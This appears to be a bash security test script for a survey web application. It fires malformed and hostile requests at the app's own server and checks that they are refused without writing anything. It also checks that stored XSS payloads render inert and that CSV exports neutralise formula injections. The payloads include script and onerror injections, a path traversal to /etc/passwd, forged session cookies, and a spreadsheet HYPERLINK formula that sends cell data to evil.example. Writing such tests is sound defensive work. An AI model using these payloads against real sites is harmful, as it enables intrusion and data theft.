#!/usr/bin/env bash
# Hostile input: a table of hostile requests against the expert pages,
# each with its documented status (400/403/404/405/409/413/415/422, never
# 500) and nothing written (a dump of the database, sessions left out,
# is the same before and after). Then XSS payloads in every field: stored
# or echoed, and inert in every page (parsed with Python's html.parser by
# inert.py, not grepped). LONG=1 repeats the table 5 times.
# Prints "hostile: N passed, N failed".
set -uo pipefail
RL_NAME=hostile
. "$(dirname "$0")/lib.sh"
HERE=$(cd "$(dirname "$0")" && pwd)
rl_start
ROUNDS=1
[ -n "$LONG" ] && ROUNDS=5

rl_experts 3 h
{ read -r linkA cardA; read -r linkB cardB; read -r linkC cardC; } <"$T/h.experts"
jarA=$T/jarA jarB=$T/jarB jarC=$T/jarC jarX=$T/jarX
check "expert A signs in" 303 "$(rl_login "$linkA" "$jarA")"
check "expert B signs in" 303 "$(rl_login "$linkB" "$jarB")"
check "expert C signs in" 303 "$(rl_login "$linkC" "$jarC")"
check "A's second device" 303 "$(rl_login "$linkA" "$jarX")"
rl_form "$cardB" "$jarB"; csrfB=$RL_CSRF
rl_form "$cardA" "$jarA"; csrf=$RL_CSRF rev=$RL_REV
# One draft so there is a revision to be stale against.
check "a first draft" 303 "$(curl -s -o /dev/null -w '%{http_code}' -b "$jarA" --data-binary "csrf=$csrf&revision=$rev&action=save&description=first" "$KF_URL/card/$cardA")"
rl_form "$cardA" "$jarA"; rev=$RL_REV

# The database without sessions (touched on reads) and its WAL state.
base="csrf=$csrf&revision=$rev&action=save"
# The database's content but sessions and the mail keyfield-notify sends
# on its own time (a submission's thank-you note, composed and sent a
# moment later).
dbsum() {
	sqlite3 -cmd '.timeout 10000' "$KF_DB" .dump |
		grep -v '^INSERT INTO \(sessions\|mails\|mail_attempts\|mail_tokens\) ' |
		sha256sum | cut -d' ' -f1
}

big() { python3 -c "import sys; sys.stdout.write(sys.argv[1] * int(sys.argv[2]))" "$1" "$2"; }
fields() { python3 -c "import sys; sys.stdout.write('&'.join('f%d=x' % i for i in range(int(sys.argv[1]))))" "$1"; }
lines() { python3 -c "import sys, urllib.parse; sys.stdout.write(urllib.parse.quote('\n'.join('item %d' % i for i in range(int(sys.argv[1])))))" "$1"; }
{ printf '%s&description=' "$base"; big "%C3%A9" 20001; } >"$T/long20001"
{ printf '%s&description=' "$base"; big "a" 270000; } >"$T/body270k"

# post NAME EXPECTED JAR BODY [curl args...]: POST to A's card.
run=0
post() {
	local name=$1 want=$2 jar=$3 body=$4 got
	shift 4
	got=$(curl -s -o "$T/page" -w '%{http_code}' -b "$jar" --max-time 30 \
		--data-binary "$body" "$@" "$KF_URL/card/$cardA")
	tally "$name" "$want" "$got"
}
get() {
	local name=$1 want=$2 jar=$3 path=$4 got
	shift 4
	got=$(curl -s -o "$T/page" -w '%{http_code}' -b "$jar" --max-time 30 "$@" "$KF_URL$path")
	tally "$name" "$want" "$got"
}
# want may be "400|404" where nginx and the program may each answer.
tally() {
	run=$((run + 1))
	if [[ "|$2|" == *"|$3|"* ]]; then ok "$1: $3"
	else bad "$1 (expected $2, got $3)"; fi
	if [ "$3" -ge 500 ] 2>/dev/null; then bad "$1: a 5xx"; fi
}

table() {
	post "NUL byte in a value" 400 "$jarA" "$base&description=a%00b"
	post "NUL byte in a name" 400 "$jarA" "$base&descr%00iption=a"
	printf '%s&description=a\0b' "$base" >"$T/nul"
	post "raw NUL byte (binary body)" 400 "$jarA" "@$T/nul"
	post "bad escape %zz" 400 "$jarA" "$base&description=%zz"
	post "truncated escape %4" 400 "$jarA" "$base&description=%4"
	post "escape at the end %" 400 "$jarA" "$base&description=%"
	post "overlong UTF-8 (C0 AF)" 400 "$jarA" "$base&description=%C0%AF"
	post "overlong UTF-8 (E0 80 AF)" 400 "$jarA" "$base&description=%E0%80%AF"
	post "UTF-16 surrogate" 400 "$jarA" "$base&description=%ED%A0%80"
	post "raw invalid byte FF" 400 "$jarA" "$base&description="$'\xff'
	post "truncated UTF-8" 400 "$jarA" "$base&description=%E2%82"
	post "code point over U+10FFFF" 400 "$jarA" "$base&description=%F4%90%80%80"
	post "duplicate key" 400 "$jarA" "$base&description=a&description=b"
	post "duplicate csrf" 400 "$jarA" "$base&csrf=$csrf"
	post "name over 128 bytes" 400 "$jarA" "$base&$(big k 129)=1"
	post "1001 fields" 413 "$jarA" "$base&$(fields 1001)"
	post "51 list items (max 50)" 422 "$jarA" "$base&indicators=$(lines 51)"
	post "list item over 500 characters" 422 "$jarA" "$base&indicators=$(big x 501)"
	post "negative rating" 422 "$jarA" "$base&rating.rating.Fr=-1"
	post "rating 11" 422 "$jarA" "$base&rating.rating.Fr=11"
	post "overflowing rating" 422 "$jarA" "$base&rating.rating.Fr=99999999999999999999999"
	post "rating 1e1" 422 "$jarA" "$base&rating.rating.Fr=1e1"
	post "rating 0x5" 422 "$jarA" "$base&rating.rating.Fr=0x5"
	post "rating 5.5" 422 "$jarA" "$base&rating.rating.Fr=5.5"
	post "rating with a sign and spaces" 422 "$jarA" "$base&rating.rating.Fr=+-5"
	post "choice not offered" 422 "$jarA" "$base&sectors.relevance.mobility=evil"
	post "long text 20001 characters (é)" 422 "$jarA" "@$T/long20001"
	post "body over 256 KB" 413 "$jarA" "@$T/body270k"
	post "negative revision" 400 "$jarA" "csrf=$csrf&revision=-1&action=save"
	post "overflowing revision" 400 "$jarA" "csrf=$csrf&revision=99999999999999999999999&action=save"
	post "revision not a number" 400 "$jarA" "csrf=$csrf&revision=1x&action=save"
	post "revision from the future" 409 "$jarA" "csrf=$csrf&revision=$((rev + 7))&action=save"
	post "stale revision" 409 "$jarA" "csrf=$csrf&revision=0&action=save"
	post "no action" 400 "$jarA" "csrf=$csrf&revision=$rev"
	post "unknown action" 400 "$jarA" "csrf=$csrf&revision=$rev&action=delete"
	post "not urlencoded" 415 "$jarA" "$base" -H 'Content-Type: text/plain'
	post "multipart" 415 "$jarA" "$base" -H 'Content-Type: multipart/form-data; boundary=x'
	post "missing CSRF token" 403 "$jarA" "revision=$rev&action=save&description=x"
	post "wrong CSRF token" 403 "$jarA" "csrf=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA&revision=$rev&action=save"
	post "another session's CSRF token" 403 "$jarA" "csrf=$csrfB&revision=$rev&action=save"
	post "empty CSRF token" 403 "$jarA" "csrf=&revision=$rev&action=save"
	post "foreign Origin" 403 "$jarA" "$base&description=x" -H 'Origin: https://evil.example'
	post "Origin on another port" 403 "$jarA" "$base&description=x" -H "Origin: http://127.0.0.1:1"
	post "no session cookie" 403 /dev/null "$base&description=x"
	post "forged session cookie" 403 /dev/null "$base&description=x" -H 'Cookie: kf_session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'
	post "B's session on A's card" 404 "$jarB" "csrf=$csrfB&revision=$rev&action=save&description=x"
	get "B opens A's card" 404 "$jarB" "/card/$cardA"
	get "B opens A's version 1" 404 "$jarB" "/card/$cardA/v/1"
	get "B opens A's confirmation" 404 "$jarB" "/card/$cardA/submitted"
	get "card 0" 404 "$jarA" "/card/0"
	get "card -1" 404 "$jarA" "/card/-1"
	get "card id overflow" 404 "$jarA" "/card/99999999999999999999999"
	get "card 1e3" 404 "$jarA" "/card/1e3"
	get "card id with %00" "400|404" "$jarA" "/card/$cardA%00"
	get "version 0" 404 "$jarA" "/card/$cardA/v/0"
	get "version overflow" 404 "$jarA" "/card/$cardA/v/99999999999"
	get "path traversal" "400|404" "$jarA" "/card/../../etc/passwd" --path-as-is
	get "PUT" 405 "$jarA" "/card/$cardA" -X PUT
	get "DELETE" 405 "$jarA" "/card/$cardA" -X DELETE
	get "unknown token" 404 /dev/null "/i/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	get "token with markup" 404 /dev/null "/i/%3Cscript%3E"
	get "overlong token (path over 1024 bytes)" "400|404" /dev/null "/i/$(big A 5000)"
}

before=$(dbsum)
for r in $(seq "$ROUNDS"); do table; done
check "the refused requests wrote nothing" "$before" "$(dbsum)"

# ---- expired session, revoked token, revoked expert's open session ----
# A's sessions (both devices) idle for 15 days, B's session 91 days old, C
# revoked; then the requests must write nothing.
sql "UPDATE sessions SET seen_at = seen_at - 15 * 86400 WHERE kind = 'expert' AND subject_id = (SELECT id FROM experts WHERE email = 'h.1@example.org')"
sql "UPDATE sessions SET created_at = created_at - 91 * 86400 WHERE subject_id = (SELECT id FROM experts WHERE email = 'h.2@example.org')"
sql "UPDATE experts SET revoked = 1 WHERE email = 'h.3@example.org'"
before=$(dbsum)
sidX=$(awk '$6 == "kf_session" { print $7 }' "$jarX")
hashX=$(printf '%s' "$sidX" | sha256sum | cut -d' ' -f1)
check "A's second device has a session row" 1 "$(sql "SELECT count(*) FROM sessions WHERE lower(hex(id_hash)) = '$hashX'")"
get "idle session (15 days): home" 403 "$jarX" "/"
post "idle session (15 days): POST" 403 "$jarX" "$base&description=x"
check "idle session deleted on the server" 0 "$(sql "SELECT count(*) FROM sessions WHERE lower(hex(id_hash)) = '$hashX'")"
get "session older than 90 days" 403 "$jarB" "/"
get "revoked token" 404 /dev/null "${linkC#"$KF_URL"}"
get "revoked token, its button" 404 /dev/null "${linkC#"$KF_URL"}" -d ''

get "revoked expert's open session: card" 404 "$jarC" "/card/$cardC"
post "revoked expert's open session: POST" "403|404" "$jarC" "$base&description=x"
check "expired and revoked wrote nothing" "$before" "$(dbsum)"
check "A signs in again" 303 "$(rl_login "$linkA" "$jarA")"
rl_form "$cardA" "$jarA"; csrf=$RL_CSRF

# ---- XSS payloads: stored in every text field, inert on every page ----
P1='</textarea><script>alert(1)</script>'
P2='"><svg onload=alert(2)>'
P3="'><img src=x onerror=alert(3)>"
P4=$'line\u2028sep\u2029para <!-- --> ]]> {{7*7}}'
P5=$'bidi \u202Eevil\u202C \u2066iso\u2069 javascript:alert(4)'
payloads=("$P1" "$P2" "$P3" "$P4" "$P5")
rl_form "$cardA" "$jarA"; csrf=$RL_CSRF rev=$RL_REV
curl -s -b "$jarA" "$KF_URL/card/$cardA" >"$T/card.html"
# Every field the card offers, from the page itself.
python3 - "$T/card.html" >"$T/names" <<'PY'
import html.parser, sys
class P(html.parser.HTMLParser):
    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "textarea" or (tag == "input" and a.get("type") in ("text", None, "radio")):
            if a.get("name") not in (None, "csrf", "revision", "action"):
                kind = "scale" if a.get("inputmode") == "numeric" else (a.get("type") or tag)
                print(kind, a["name"])
p = P(); p.feed(open(sys.argv[1], encoding="utf-8").read())
PY
sort -u -o "$T/names" "$T/names"
ntext=$(grep -cvE '^(radio|scale) ' "$T/names")
[ "$ntext" -ge 20 ] && ok "the card offers $ntext text fields" || bad "text fields found ($ntext)"
# enc PAYLOAD: urlencoded
enc() { python3 -c 'import sys, urllib.parse; sys.stdout.write(urllib.parse.quote(sys.argv[1], safe=""))' "$1"; }
# Text fields get payloads in turn; choices and scales valid values.
body="csrf=$csrf&revision=$rev&action=save"
k=0
while read -r type name; do
	case $type in
	radio|scale) continue ;;
	esac
	p=${payloads[$((k % ${#payloads[@]}))]}
	k=$((k + 1))
	if [ "$name" = indicators ]; then p="$P1"$'\n'"$P2"$'\n'"$P3"; fi
	body+="&$(enc "$name")=$(enc "$p")"
done <"$T/names"
check "payloads saved as a draft" 303 "$(curl -s -o /dev/null -w '%{http_code}' -b "$jarA" --data-binary "$body" "$KF_URL/card/$cardA")"
check "stored as sent" 2 "$(sql "SELECT count(DISTINCT value) FROM answers WHERE version = 0 AND value IN ('$P1', '$P2')")"
inert() {
	local name=$1 file=$2
	shift 2
	if out=$(python3 "$HERE/inert.py" "$file" "$@"); then ok "$name: payloads inert"
	else bad "$name: $out"; fi
}
curl -s -b "$jarA" "$KF_URL/card/$cardA" >"$T/p-card.html"
inert "card page" "$T/p-card.html" "$P1" "$P2" "$P3" "$P4" "$P5"
curl -s -b "$jarA" "$KF_URL/" >"$T/p-home.html"
inert "home page" "$T/p-home.html"
# Submit (all required fields valid) for the confirmation and version pages.
rl_form "$cardA" "$jarA"; rev=$RL_REV
sub="csrf=$csrf&revision=$rev&action=submit&$(rl_body | sed 's/&economic=[^&]*//; s/&indicators=[^&]*//')"
sub+="&description=$(enc "$P1")&economic=$(enc "$P2")&examples.example.Fr=$(enc "$P3")&remarks=$(enc "$P4")&social=$(enc "$P5")"
sub+="&indicators=$(enc "$P1"$'\n'"$P2")&sectors.importance.ict=$(enc "$P2")"
check "payloads submitted" 303 "$(curl -s -o /dev/null -w '%{http_code}' -b "$jarA" --data-binary "$sub" "$KF_URL/card/$cardA")"
curl -s -b "$jarA" "$KF_URL/card/$cardA/submitted" >"$T/p-done.html"
inert "confirmation page" "$T/p-done.html" "$P1" "$P2" "$P3" "$P4" "$P5"
curl -s -b "$jarA" "$KF_URL/card/$cardA/v/1" >"$T/p-v1.html"
inert "version page" "$T/p-v1.html" "$P1" "$P2" "$P3"
# Echoed, not stored: a 422 with payloads in every field, scales and
# choices included, and a 409 (stale) with them.
rl_form "$cardA" "$jarA"; rev=$RL_REV
body="csrf=$csrf&revision=$rev&action=save"
k=0
while read -r type name; do
	[ "$type" = radio ] && [[ "$body" == *"&$(enc "$name")="* ]] && continue
	p=${payloads[$((k % ${#payloads[@]}))]}
	k=$((k + 1))
	body+="&$(enc "$name")=$(enc "$p")"
done <"$T/names"
before=$(dbsum)
check "payloads in every field, scales and choices too: 422" 422 "$(curl -s -o "$T/p-422.html" -w '%{http_code}' -b "$jarA" --data-binary "$body" "$KF_URL/card/$cardA")"
inert "422 page" "$T/p-422.html" "$P1" "$P2" "$P3" "$P4" "$P5"
stale=$(sed 's/&revision=[0-9]*&/\&revision=0\&/; s/&rating\.[^&]*//g; s/&sectors\.relevance[^&]*//g' <<<"$body")
check "payloads in a stale save: 409" 409 "$(curl -s -o "$T/p-409.html" -w '%{http_code}' -b "$jarA" --data-binary "$stale" "$KF_URL/card/$cardA")"
inert "409 page" "$T/p-409.html" "$P1" "$P2"
check "422 and 409 wrote nothing" "$before" "$(dbsum)"
# The checker itself must catch an injection.
printf '<p>%s</p>' "$P2" >"$T/raw.html"
if python3 "$HERE/inert.py" "$T/raw.html" >/dev/null; then bad "inert.py catches an unescaped payload"; else ok "inert.py catches an unescaped payload"; fi

# ---- the console and the exports ----
# A's card (P1-P5) and a card from an expert whose name is a payload,
# with spreadsheet formulas in its text fields, seen by a coordinator:
# card view, printable card, dashboard and campaign page parsed by
# inert.py; the csv and csv-long exports parsed by Python's csv module
# (no cell starts like a formula, each formula arrives with its "'");
# the md export rendered by cmark --unsafe (raw HTML passed through, so
# only escaping keeps it out) and parsed by inert.py.
F1='=HYPERLINK("http://evil.example/?"&A1,"click")'
F2='+1+cmd|'"'"' /C calc'"'"'!A0'
F3='-2+3'
F4='@SUM(1+1)*cmd|'"'"'/C calc'"'"'!A0'
F5=$'\t=1+1'
NAME="$P2 $P3 =1+1"
linkF=$(kf_cli expert add demo --name "$NAME" --email f.1@example.org --fields SF41 | tail -n 1)
cardF=$(sql "SELECT a.id FROM assignments a JOIN experts e ON e.id = a.expert_id WHERE e.email = 'f.1@example.org'")
check "formula expert signs in" 303 "$(rl_login "$linkF" "$T/jarF")"
rl_form "$cardF" "$T/jarF"
subF="csrf=$RL_CSRF&revision=$RL_REV&action=submit&$(rl_body | sed 's/&economic=[^&]*//; s/&indicators=[^&]*//')"
subF+="&description=$(enc "$F1")&economic=$(enc "$F2")&examples.example.Fr=$(enc "$F3")&remarks=$(enc "$F4")&social=$(enc "$F5")"
subF+="&indicators=$(enc "$F1"$'\n'"$F4")"
check "formulas submitted" 303 "$(curl -s -o /dev/null -w '%{http_code}' -b "$T/jarF" --data-binary "$subF" "$KF_URL/card/$cardF")"
printf 'hostile console 123\n' | kf_cli coordinator add --admin hc >/dev/null
C=$T/jar-console
curl -s -b "$C" -c "$C" "$KF_URL/admin/login" >"$T/login.html"
ctok=$(grep -o 'name="csrf" value="[^"]*"' "$T/login.html" | head -n 1 | sed 's/.*value="//; s/"$//')
check "coordinator signs in" 303 "$(curl -s -o /dev/null -w '%{http_code}' -b "$C" -c "$C" --data-urlencode "csrf=$ctok" -H "Origin: $KF_URL" -d username=hc --data-urlencode 'password=hostile console 123' "$KF_URL/admin/login")"
respA=$(sql "SELECT id FROM responses WHERE assignment_id = $cardA")
respF=$(sql "SELECT id FROM responses WHERE assignment_id = $cardF")
cget() {	# NAME PATH FILE: 200 expected
	check "console $1: 200" 200 "$(curl -s -o "$3" -w '%{http_code}' -b "$C" "$KF_URL/admin$2")"
}
cget "card view (A)" "/r/$respA" "$T/c-cardA.html"
inert "console card view (A)" "$T/c-cardA.html" "$P1" "$P2" "$P3" "$P4" "$P5"
cget "printable card (A)" "/r/$respA/print" "$T/c-printA.html"
inert "console printable card (A)" "$T/c-printA.html" "$P1" "$P2" "$P3" "$P4" "$P5"
cget "card view (payload name)" "/r/$respF" "$T/c-cardF.html"
inert "console card view (payload name)" "$T/c-cardF.html" "$NAME" "$F1"
cget "printable card (payload name)" "/r/$respF/print" "$T/c-printF.html"
inert "console printable card (payload name)" "$T/c-printF.html" "$NAME" "$F1"
cget dashboard "/c/demo/dashboard" "$T/c-dash.html"
INERT_ALLOW_CHART=1 inert "console dashboard (its own charts allowed)" "$T/c-dash.html" "$NAME"
grep -q '<svg class="chart"' "$T/c-dash.html" && ok "the dashboard has charts" ||
	bad "the dashboard has charts (the allowance is needed)"
printf '<p><svg class="chart" onload="alert(1)"></svg></p>' >"$T/raw-chart.html"
if INERT_ALLOW_CHART=1 python3 "$HERE/inert.py" "$T/raw-chart.html" >/dev/null; then bad "inert.py still catches on* in a chart"; else ok "inert.py still catches on* in a chart"; fi
cget "campaign page" "/c/demo" "$T/c-camp.html"
inert "console campaign page" "$T/c-camp.html" "$NAME"
for fmt in csv csv-long md; do
	check "export $fmt: 200" 200 "$(curl -s -o "$T/export.$fmt" -w '%{http_code}' -b "$C" "$KF_URL/admin/c/demo/export/$fmt")"
done
# csvcheck FILE: no cell starts like a formula; each payload is in a cell
# as "'" + payload (the first line of a multi-line one at least).
csvcheck() {
	python3 - "$@" <<'PY'
import csv, io, sys
path, payloads = sys.argv[1], sys.argv[2:]
with open(path, encoding="utf-8", newline="") as f:
    text = f.read().lstrip("\ufeff")
cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
for c in bad[:3]:
    print("a formula cell: %r" % c[:60])
missing = [p for p in payloads if not any(
    c == "'" + p or c.startswith("'" + p + "\n") for c in cells)]
for p in missing:
    print("payload %r not neutralised in any cell" % p[:40])
sys.exit(1 if bad or missing else 0)
PY
}
for fmt in csv csv-long; do
	if out=$(csvcheck "$T/export.$fmt" "$F1" "$F2" "$F3" "$F4" "$F5" 2>/dev/null)
	then ok "export $fmt: formulas neutralised (\"'\"), none left"
	else bad "export $fmt: $out"; fi
done
if command -v cmark >/dev/null; then
	cmark --unsafe "$T/export.md" >"$T/export.md.html"
	inert "export md (rendered by cmark --unsafe)" "$T/export.md.html" \
	    "alert(1)" "<svg onload=alert(2)>" "onerror=alert(3)"
	# The checks can fail: unescaped text through the same path.
	printf '%s\n' "$P1" | cmark --unsafe >"$T/raw.md.html"
	if python3 "$HERE/inert.py" "$T/raw.md.html" >/dev/null; then
		bad "cmark + inert.py catch unescaped Markdown"
	else ok "cmark + inert.py catch unescaped Markdown"; fi
else
	bad "export md: cmark is not installed (apt-get install cmark)"
fi
printf 'a,%s\n' "$F1" >"$T/raw.csv"
if csvcheck "$T/raw.csv" >/dev/null 2>&1; then bad "the CSV check catches a formula cell"
else ok "the CSV check catches a formula cell"; fi

check "no 5xx in the worker log" 0 "$(grep -c ' 50[0-9] [0-9]*ms' "$KF_VAR/log/survey.log")"
echo "     $run hostile requests"
rl_done
